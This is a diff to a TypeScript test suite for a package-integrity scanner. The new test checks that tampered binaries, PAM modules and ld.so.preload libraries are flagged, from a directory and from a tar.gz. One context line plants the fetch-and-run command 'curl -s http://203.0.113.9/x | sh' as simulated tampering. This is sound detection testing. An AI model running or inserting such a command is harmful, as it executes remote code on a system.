@@ -24,6 +24,8 @@ import { runChecks, type CheckRunResult } from '../../src/engine/run-checks.js';
 import { severityRank, type Finding } from '../../src/engine/finding.js';
 import { EMPTY_HASH_LIST } from '../../src/hashes/empty-hash-list.js';
 import { openTarget } from '../../mountfs/open-target.js';
+import { FACT_PATHS } from '../../src/engine/facts.js';
+import { declaredPaths } from '../../src/engine/check.js';
 import { builtinRules, scanDirectory } from '../helpers/scan-dir.js';
 import { buildImage, makeScratchDir, removeScratchDir } from '../helpers/images.js';
 import { buildDeb, divert, initDpkgRoot, installDebs } from '../helpers/dpkg-root.js';
@@ -198,6 +200,52 @@ describe('package-integrity on small roots', () => {
     await appendFile(path.join(root, 'usr/sbin/site-run'), 'curl -s http://203.0.113.9/x | sh\n');
     result = await scanDirectory(root, [packageIntegrityCheck]);
     expect(summary(result.findings)).toEqual(['high integrity.package-file-modified /usr/sbin/site-run']);
+  });
+
+  it('verifies the libraries ld.so.preload names wherever they are, and what a single-pass tar.gz kept', async () => {
+    const root = path.join(scratch, 'preload');
+    await initDpkgRoot(root);
+    const deb = await buildDeb(scratch, {
+      name: 'demo-stack',
+      files: [
+        { path: '/usr/bin/demo-tool', content: '#!/bin/sh\necho tool\n', mode: 0o755 },
+        // Bigger than the head a single-pass source keeps of every file.
+        { path: '/usr/lib/x86_64-linux-gnu/security/pam_demo.so', content: `\x7fELF pam module ${'p'.repeat(4096)}\n` },
+        { path: '/usr/lib/x86_64-linux-gnu/libdemo.so.1', content: `\x7fELF library ${'l'.repeat(4096)}\n` },
+        { path: '/opt/demo/lib/libpre.so', content: `\x7fELF preloaded ${'o'.repeat(4096)}\n` },
+      ],
+    });
+    await installDebs(root, [deb]);
+    await writeFile(path.join(root, 'etc/ld.so.preload'), '/opt/demo/lib/libpre.so\n');
+    for (const f of ['usr/bin/demo-tool', 'usr/lib/x86_64-linux-gnu/security/pam_demo.so', 'opt/demo/lib/libpre.so']) {
+      await appendFile(path.join(root, f), 'changed\n');
+    }
+    const fromDir = await scanDirectory(root, [packageIntegrityCheck]);
+    expect(fromDir.errors).toEqual([]);
+    expect(summary(fromDir.findings)).toEqual([
+      'critical integrity.pam-module-modified /usr/lib/x86_64-linux-gnu/security/pam_demo.so',
+      'high integrity.package-file-modified /opt/demo/lib/libpre.so',
+      'high integrity.package-file-modified /usr/bin/demo-tool',
+    ]);
+    expect(fromDir.filesExamined).toBe(4);
+
+    // A tar.gz is read once: programs keep their digests, PAM modules are declared and kept, 0644 libraries are neither.
+    const archive = path.join(scratch, 'preload.tar.gz');
+    await run('tar', ['-C', root, '-czf', archive, '.']);
+    const rules = await builtinRules();
+    const opened = await openTarget(archive, { bytesRead: 0 }, { retain: [...FACT_PATHS, ...declaredPaths(packageIntegrityCheck, rules)] });
+    try {
+      const fromTar = await runChecks(opened.filesystems[0]!.vfs, [packageIntegrityCheck], { rules, hashes: EMPTY_HASH_LIST });
+      expect(summary(fromTar.findings)).toEqual([
+        'critical integrity.pam-module-modified /usr/lib/x86_64-linux-gnu/security/pam_demo.so',
+        'high integrity.package-file-modified /usr/bin/demo-tool',
+      ]);
+      expect(fromTar.errors.map((e) => e.message)).toEqual([
+        '2 packaged file(s) could not be verified: the single-pass source kept neither their bytes nor their digests (first: /opt/demo/lib/libpre.so)',
+      ]);
+    } finally {
+      await opened.close();
+    }
   });
 
   it('reports nothing, not even unowned files, when the root has no package database', async () => {
